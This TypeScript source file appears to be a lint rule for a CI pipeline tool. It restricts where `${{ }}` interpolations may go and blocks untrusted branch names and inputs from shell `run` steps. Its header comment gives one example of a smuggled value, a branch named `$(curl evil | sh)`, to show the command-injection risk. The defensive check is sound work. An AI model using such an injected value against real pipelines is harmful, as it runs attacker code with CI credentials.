/**
 * Rules about `${{ … }}` interpolation. Values are substituted into the text at compile time,
 * so where they may go depends on who controls them:
 * - `matrix.X` is written by the pipeline author: allowed in `run`, names, env values,
 *   `runs-on`, `working-directory` and the cache key;
 * - `inputs.X`, `branch`, `commit`, `event`, `base_branch` come from whoever pushes or triggers:
 *   allowed only in env values and step names, never in `run`, where a branch named
 *   `$(curl evil | sh)` would become shell code. Map them into `env` and use "$VAR" instead;
 * - `tests.file` becomes a quoted variable, valid only in the `run` of a step with `tests:` whose
 *   framework is `file` (other frameworks are run by pitcrew one file at a time).
 */
import { type InterpolationRef, OPEN, scanInterpolations } from "../compile/interpolate.js";
import type { LintContext } from "./lint-context.js";
import { walkStrings } from "./walk-strings.js";

type Allowed = "all" | "matrix-only" | "untrusted-only" | "none" | "skip";

/**
 * `invalid-interpolation`, `interpolation-not-allowed`, `untrusted-interpolation`, `unknown-reference`,
 * `tests-file-not-file-framework`.
 */
export function checkInterpolations(ctx: LintContext): void {
  for (const { path, value } of walkStrings(ctx.spec)) {
    if (!value.includes(OPEN)) continue;
    const allowed = allowedAt(path);
    if (allowed === "skip") continue;
    const field = fieldName(path);
    if (allowed === "none") {
      const message = `\${{ }} is not allowed in ${field}; interpolation works in run, name, env values, runs-on, working-directory and cache.key`;
      ctx.report("error", "interpolation-not-allowed", message, { path, offset: value.indexOf(OPEN) });
      continue;
    }
    const { refs, problems } = scanInterpolations(value);
    for (const p of problems) ctx.report("error", "invalid-interpolation", p.message, { path, offset: p.offset });
    for (const ref of refs) checkRef(ctx, path, field, allowed, ref);
  }
}

function checkRef(ctx: LintContext, path: PropertyKey[], field: string, allowed: Allowed, ref: InterpolationRef): void {
  const at = { path, offset: ref.offset };
  const [root, key = ""] = ref.path;
  if (ref.untrusted && allowed === "matrix-only") {
    const message =
      field === "run"
        ? `${ref.text} in run: branch names and inputs are untrusted; map them into env and use "$VAR"`
        : `${ref.text} in ${field}: branch names and inputs are untrusted and cannot choose ${field}`;
    ctx.report("error", "untrusted-interpolation", message, at);
    return;
  }
  if (root === "matrix") {
    const job = path[0] === "jobs" ? String(path[1]) : undefined;
    const keys = new Set(job ? ctx.matrices.get(job)?.keys : []);
    if (!keys.has(key)) {
      const message = job ? `job '${job}' has no matrix key '${key}'` : `${ref.text}: there is no matrix outside a job`;
      ctx.report("error", "unknown-reference", message, at);
    }
  } else if (root === "tests") {
    const step = path[2] === "steps" ? ctx.spec.jobs[String(path[1])]?.steps?.[Number(path[3])] : undefined;
    if (key !== "file") {
      ctx.report("error", "unknown-reference", `${ref.text}: the only test reference is tests.file`, at);
    } else if (field !== "run" || !step?.tests) {
      const message = `${ref.text} is only defined in the run of a step with a tests: block`;
      ctx.report("error", "unknown-reference", message, at);
    } else if (step.tests.framework !== "file") {
      // $PITCREW_TESTS_FILE is set for every framework, but here the run is the framework's command, to
      // which pitcrew appends one test file and its report flags: the list's path would be run as a test file
      const message = `${ref.text} belongs to framework: file (a script that reads the list of test files); with framework: ${step.tests.framework} the run is the framework's command and pitcrew passes each file itself: write the command alone, or use framework: file`;
      ctx.report("error", "tests-file-not-file-framework", message, at);
    }
  } else if (root === "inputs" && !Object.hasOwn(ctx.spec.on?.manual?.inputs ?? {}, key)) {
    ctx.report("error", "unknown-reference", `input '${key}' is not declared under on.manual.inputs`, at);
  }
}

/** Which references a string at `path` may contain. */
function allowedAt(path: PropertyKey[]): Allowed {
  const [a, , c, d, e, f] = path;
  if (a === "env" && path.length === 2) return "untrusted-only";
  if (a !== "jobs") return "none";
  if (c === "if") return "skip";
  if (c === "env" && path.length === 4) return "all";
  if (c === "runs-on") return "matrix-only";
  if (c === "cache" && d === "key") return "matrix-only";
  if (c !== "steps" || path.length < 5) return "none";
  if (e === "if") return "skip";
  if (e === "name" || (e === "env" && f !== undefined && path.length === 6)) return "all";
  if (e === "run" || e === "working-directory") return "matrix-only";
  return "none";
}

/** The field a path names inside its job or step, e.g. `run`, `env.TOKEN`, `cache.key`. */
function fieldName(path: PropertyKey[]): string {
  const start = path[0] !== "jobs" ? 0 : path[2] === "steps" ? 4 : 2;
  return path
    .slice(start)
    .filter((p) => typeof p === "string")
    .join(".");
}
